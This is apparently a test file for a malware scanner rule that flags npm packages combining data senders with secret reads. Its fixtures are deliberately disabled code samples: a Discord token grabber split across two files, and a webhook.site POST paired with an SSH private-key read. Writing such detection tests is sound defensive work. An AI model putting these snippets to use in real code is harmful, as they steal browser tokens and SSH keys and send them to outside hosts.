import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { manifest, ofRule, scanFiles } from "../helpers.js";

describe("rule collector-and-secrets", () => {
  it("joins a Discord webhook in one file and browser token stores in another (a token grabber split in two)", async () => {
    const report = await scanFiles({
      "package.json": manifest({ main: "index.js" }),
      "index.js": "throw 0; const { WebhookClient } = require('discord.js'); const hook = new WebhookClient('1', 'x'); module.exports = (tokens) => hook.send(tokens.join('\\n'));",
      "lib/paths.js": "throw 0; const path = require('path'); const os = require('os'); module.exports = [path.join(os.homedir(), 'AppData', 'Roaming', 'discord', 'Local Storage', 'leveldb'), path.join(os.homedir(), 'AppData', 'Local', 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb')];",
    });
    assert.equal(ofRule(report.findings, "collector-and-secrets", "critical").length, 1, JSON.stringify(report.findings));
    assert.equal(report.verdict, "malicious");
  });
  it("joins a webhook.site URL and an SSH key read in different files", async () => {
    const report = await scanFiles({
      "package.json": manifest({}),
      "send.js": "throw 0; module.exports = (d) => require('https').request({ hostname: 'webhook.site', path: '/00000000-0000-0000-0000-000000000000', method: 'POST' }).end(d);",
      "read.js": "throw 0; module.exports = () => require('fs').readFileSync(require('path').join(require('os').homedir(), '.ssh', 'id_rsa'));",
    });
    assert.equal(report.verdict, "malicious");
  });
  it("does not flag a Slack notifier that reads its tokens by name", async () => {
    const report = await scanFiles({
      "package.json": manifest({}),
      "notify.js": "const https = require('https'); const url = process.env.SLACK_WEBHOOK || 'https://hooks.slack.com/services/T000/B000/XXX'; https.request(url, { method: 'POST' }).end(JSON.stringify({ text: 'released' }));",
      "config.js": "const os = require('os'); module.exports = { token: process.env.GITHUB_TOKEN, cache: require('path').join(os.homedir(), '.cache', 'notify') };",
    });
    assert.deepEqual(ofRule(report.findings, "collector-and-secrets"), []);
    assert.notEqual(report.verdict, "malicious");
  });
});
